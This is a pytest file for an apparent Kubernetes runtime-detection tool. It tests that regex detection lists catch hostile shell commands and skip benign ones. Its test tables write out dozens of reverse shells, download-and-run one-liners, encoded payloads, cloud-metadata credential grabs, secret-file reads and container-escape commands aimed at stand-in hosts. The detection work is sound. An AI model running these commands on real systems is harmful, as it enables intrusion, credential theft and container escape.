"""The families of commands: what each pattern of a list finds, and what none may find."""

from base64 import b64encode
from functools import cache
from pathlib import Path

import pytest
import yaml

from ekswatch.audit.commands import readings
from ekswatch.rules.regex import Pattern, compiled, finds

LISTS = Path(__file__).parents[2] / "detections/lists"

SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
BLOB = b64encode(b"\x00\xff" + b"not even a text " * 20).decode()

FOUND = {
    "reverse_shells": [
        SHELL,
        "/bin/sh -i 5<> /dev/tcp/203.0.113.9/4444 0<&5 1>&5 2>&5",
        "bash -c exec bash -i &>/dev/udp/198.51.100.7/53 <&1",
        "sh -c 0<&196;exec 196<>/dev/tcp/203.0.113.9/9001; sh <&196 >&196 2>&196",
        "bash -c exec 5<>/dev/tcp/c2.evil.example/443;cat <&5 | while read line; do $line; done",
        f"sh -c echo {b64encode(SHELL.encode()).decode()} | base64 -d | bash",
        "sh -c nc -e /bin/sh 203.0.113.9 4444",
        "nc 203.0.113.9 4444 -e sh",
        "busybox nc -lvp 4444 -e /bin/bash",
        "ncat --ssl evil.example 443 --sh-exec bash",
        "ncat --exec=/bin/bash -l 9000",
        "n'c' -ve /bin/sh 203.0.113.9 1",
        "sh -c nc 203.0.113.9 4444 | /bin/sh",
        "telnet 203.0.113.9 1 | bash | telnet 203.0.113.9 2",
        "sh -c sh -i 2>&1 | nc 203.0.113.9 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "mknod p p; /bin/sh 0<p | openssl s_client -quiet -connect 203.0.113.9:443 1>p",
        "socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane",
        "socat tcp-listen:4444,reuseaddr,fork system:sh",
        "busybox telnetd -p 2323 -l /bin/sh",
        "openssl s_client -quiet -connect 203.0.113.9:443 | bash",
        "python3 -c import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.9',1));"
        "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
        "python -c import pty,socket;s=socket.create_connection(('h',1));pty.spawn('/bin/sh')",
        "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');exec('/bin/sh -i');",
        "perl -MIO -e $c=new IO::Socket::INET(PeerAddr,'203.0.113.9:1');while(<>){system$_;}",
        "ruby -rsocket -e c=TCPSocket.new('203.0.113.9',1);while(l=c.gets);IO.popen(l,'r'){}end",
        "php -r $s=fsockopen('203.0.113.9',4444);exec('sh <&3 >&3 2>&3');",
        "lua5.1 -e local s=require('socket').tcp();s:connect('h',1);os.execute('sh')",
        "node -e require('child_process').spawn('sh');require('net').connect(1,'203.0.113.9')",
        "awk BEGIN{s='/inet/tcp/0/203.0.113.9/4444';while(1){s|&getline c}}",
        "zsh -c zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY",
        "pwsh -c $c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444)",
    ],
    "download_commands": [
        "curl -fsSL https://evil.example/x -o /tmp/x",
        "sh -c wget -q 203.0.113.9/x",
        "/bin/busybox wget http://203.0.113.9/x",
        "python3 -c import urllib.request as u;u.urlretrieve('http://203.0.113.9/x','x')",
        "python -c import requests;requests.get('https://evil.example')",
        "aws s3 cp s3://loot/tool /tmp/tool",
        "aws --no-sign-request s3 sync s3://loot .",
        "php -r echo file_get_contents('http://203.0.113.9/x');",
        "git clone https://evil.example/tools.git",
        "pip install git+https://evil.example/x",
        "pwsh -c iwr http://203.0.113.9/x.exe -OutFile x.exe",
    ],
    "download_then_run": [
        "sh -c curl -s http://203.0.113.250/i.sh | bash",
        "sh -c wget -qO- http://203.0.113.250/i.sh | sudo -E sh -s -- -y",
        "curl http://orders.payments/i | base64 -d | /bin/bash",
        "curl -s evil.example/x|gunzip|busybox sh",
        'c"u"rl${IFS}evil.example/x|sh',
        "curl -s http://evil.example/x.py | python3 -",
        "wget -O - evil.example/x | perl",
        "bash -c bash <(curl -s http://evil.example/x)",
        "sh -c . <(wget -qO- evil.example/x)",
        'sh -c bash -c "$(curl -fsSL https://evil.example/install.sh)"',
        "sh -c eval `wget -qO- evil.example/x`",
        "sh -c curl -o /tmp/m http://203.0.113.9/m; chmod +x /tmp/m; /tmp/m",
        "wget evil.example/m && chmod 755 m && nohup ./m &",
        "sh -c wget -O i.sh http://evil.example/i.sh && sh i.sh",
        "sh -c wget -O i.sh http://evil.example/i.sh\nsh i.sh",
        "curl -so /dev/shm/a http://evil.example/a; python3 /dev/shm/a",
        "python -c import urllib.request as u;exec(u.urlopen('http://evil.example/x').read())",
        "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
        "pwsh -c iwr http://evil.example/x | iex",
    ],
    "encoded_payloads": [
        f"sh -c echo {BLOB} | base64 -d | sh",
        f"sh -c base64 --decode <<< {BLOB} | bash",
        f"python3 -c import base64;exec(base64.b64decode('{BLOB}'))",
        f"sh -c eval $(echo {BLOB} | base64 -d)",
        f"powershell -NoP -enc {BLOB}",
    ],
    "metadata_endpoints": [
        "curl http://169.254.169.254/latest/meta-data/",
        "curl http://2852039166/",
        "curl http://0xA9FEA9FE/",
        "curl http://0xa9.0xfe.0xa9.0xfe/",
        "curl http://0251.0376.0251.0376/",
        "curl http://[fd00:ec2::254]/",
        "curl http://[fd00:ec2::23]/v1/credentials",
        "curl http://[::ffff:a9fe:a9fe]/",
        "curl 169.254.170.2/v2/credentials",
        "curl http://169.254.170.23/v1/credentials",
        "wget http://imds.evil.example/latest/user-data",
        "curl metadata.google.internal/computeMetadata/v1/",
        "curl http://instance-data/latest",
        "curl http://169-254-169-254.evil.example/",
        "sh -c echo $AWS_CONTAINER_CREDENTIALS_FULL_URI",
    ],
    "metadata_credentials": [
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "curl http://169.254.170.2/v2/credentials/0f",
        "curl http://[fd00:ec2::23]/v1/credentials",
        "curl $AWS_CONTAINER_CREDENTIALS_FULL_URI",
        "curl http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/",
    ],
    "credential_paths": [
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "cat /run/secrets/eks.amazonaws.com/serviceaccount/token",
        "sh -c cd /var/run; cat secrets/kubernetes.io/serviceaccount/namespace",
        "cat ../../serviceaccount/token",
        "sh -c cat $AWS_WEB_IDENTITY_TOKEN_FILE",
        "printenv AWS_SESSION_TOKEN",
        "sh -c env | grep -i secret",
        "cat /proc/1/environ",
        "sh -c strings /proc/self/environ",
        "cat /etc/shadow",
        "sh -c ls -la /etc/sudoers.d",
        "cat /etc/kubernetes/admin.conf",
        "ls /var/lib/kubelet/pods",
        "cat /host/root/x",
        "cat /root/.aws/credentials",
        "sh -c cat ~/.ssh/config",
        "ls /home/app/.kube",
        "cat .config/gcloud/application_default_credentials.json",
        "cat /app/.npmrc",
        "cat /tmp/id_rsa",
        "find / -name *.p12",
        "cat /tls/tls.key",
        "cat /etc/ssl/server-key.pem",
        "find / -name *.pem",
        "cat /app/.env",
        "sh -c grep -rn password /etc /app",
        "cat${IFS}/etc/shadow",
    ],
    "weak_credential_paths": ["cat /etc/passwd", "ls /etc/ssl/certs/ca.pem"],
    "escape_commands": [
        "nsenter --target 1 --mount -- bash",
        "unshare -UrmC bash",
        "chroot /host bash",
        "chroot --userspec=0:0 /mnt/host sh",
        "mount /dev/nvme0n1p1 /mnt",
        "debugfs -w /dev/xvda1",
        "ls /proc/1/root/etc",
        "sh -c echo /x > /sys/fs/cgroup/rdma/release_agent",
        "sh -c echo '|/x' > /proc/sys/kernel/core_pattern",
        "insmod /tmp/x.ko",
        "capsh --print",
        "sh -c grep CapEff /proc/self/status; cat /proc/self/status | grep CapEff",
    ],
    "archive_commands": [
        "tar cf - /etc",
        "tar -czf - -C / var",
        "tar --exclude=x -cf - /data",
        "tar -c -f - /data",
        "tar --create --gzip --file=- /data",
        "tar -f - -c /data",
        "tar -cz /data | base64",
        "base64 -w0 /tmp/x.tgz",
        "cat /backup/db.sql",
        "gzip -c /backup/db.dump",
        "zip -r - /data",
    ],
}
"""What the patterns find, list by list."""

INNOCENT = [
    "ps aux",
    "sh",
    "bash -i",
    "ls -la /app",
    "cat /etc/resolv.conf",
    "cat /etc/hosts",
    "env",
    "bash -c echo > /dev/tcp/127.0.0.1/5432",
    "bash -c exec 3<>/dev/tcp/localhost/9000;echo -e 'GET /health/ready HTTP/1.1' >&3;grep UP <&3",
    "bash -c timeout 1 bash -c '</dev/tcp/postgres/5432'",
    "nc -zv postgres 5432",
    "sh -c nc -z 127.0.0.1 6379 && echo up",
    "socat - UNIX-CONNECT:/var/run/haproxy.sock",
    "socat TCP-LISTEN:8080,fork TCP:db:5432",
    "sh -c echo | openssl s_client -connect db:5432",
    "python -c import socket;socket.create_connection(('db',5432))",
    "python manage.py shell",
    "node server.js",
    "perl -pe s/a/b/ /etc/motd",
    "redis-cli ping",
    "psql -c select 1",
    "php artisan queue:work",
    "awk {print $1} /proc/meminfo",
    "java -jar app.jar",
    "tar xzf - -C /app",
    "tar tf /tmp/x.tar",
    "cat /proc/1/status",
    "cat /app/config.yaml",
    "pg_isready -h 127.0.0.1",
    "cilium status",
    "/app/fetcher --serve",
    "mount",
]
"""Health checks, debugging, databases: nothing may find these."""

NOT_FOUND = {
    "download_then_run": [
        "curl -s http://orders/x | jq .",
        "curl -s https://api.example.com/x | python3 -m json.tool",
        "curl -s https://api.example.com/x | perl -ne print",
        "curl -o /tmp/x https://example.com/x; cat /tmp/x",
        "sh -c curl -s http://localhost:8080/healthz",
        "sh -c wget -O /tmp/x.sh https://example.com/x.sh; ls -la",
    ],
    "encoded_payloads": [
        f"sh -c echo {BLOB[:180]} | base64 -d | sh",
        f"sh -c echo {BLOB} | base64 -d > /tmp/x",
        f"sh -c echo {BLOB} | sh",
    ],
    "metadata_endpoints": [
        "curl http://169.254.1.1/",
        "curl http://10.169.254.169/",
        "echo 2852039",
    ],
    "metadata_credentials": ["curl http://169.254.169.254/latest/meta-data/hostname"],
    "credential_paths": [
        "ls /etc/ssl/certs",
        "cat /etc/ssl/certs/ca.pem",
        "cat /etc/passwd",
        "cat id_rsa.pub",
        "env",
        "sh -c env | sort",
        "getent hosts orders",
        "ls /hosts/x",
        "cat /app/public.keys",
    ],
    "escape_commands": ["mount -t tmpfs tmpfs /x", "chroot --help", "cat /proc/12/root"],
    "archive_commands": ["tar -cf /tmp/x.tar /data", "cat /app/readme.md", "gzip /tmp/x"],
    "download_commands": ["echo curling", "requests --help", "aws sts get-caller-identity"],
}
"""Near misses, list by list."""


@cache
def patterns(name: str) -> dict[str, Pattern]:
    values = yaml.safe_load((LISTS / f"{name}.yml").read_text())["values"]
    return {value: compiled(f"(?is){value}") for value in values}


def found_by(name: str, command: str) -> set[str]:
    texts = readings(command)
    return {
        value
        for value, pattern in patterns(name).items()
        if any(finds(pattern.search, text) for text in texts)
    }


@pytest.mark.parametrize(
    ("name", "command"), [(name, command) for name, all_ in FOUND.items() for command in all_]
)
def test_a_family_finds_its_commands(name: str, command: str) -> None:
    """In one reading or another."""
    assert found_by(name, command)


@pytest.mark.parametrize("name", FOUND)
def test_every_pattern_of_a_family_finds_something(name: str) -> None:
    """A pattern that no command of the table needs is not tested."""
    used = set().union(*(found_by(name, command) for command in FOUND[name]))

    assert set(patterns(name)) - used == set()


@pytest.mark.parametrize("name", FOUND)
def test_no_family_finds_ordinary_commands(name: str) -> None:
    """Loopback, health checks and services of the cluster among them."""
    near = [*INNOCENT, *NOT_FOUND.get(name, [])]

    assert {command: found for command in near if (found := found_by(name, command))} == {}


@pytest.mark.parametrize("name", ["attack_programs", "cluster_programs"])
def test_programs_are_lower_case_patterns(name: str) -> None:
    """They stand inside another pattern, so each must be one by itself."""
    assert all(value == value.lower() for value in patterns(name))
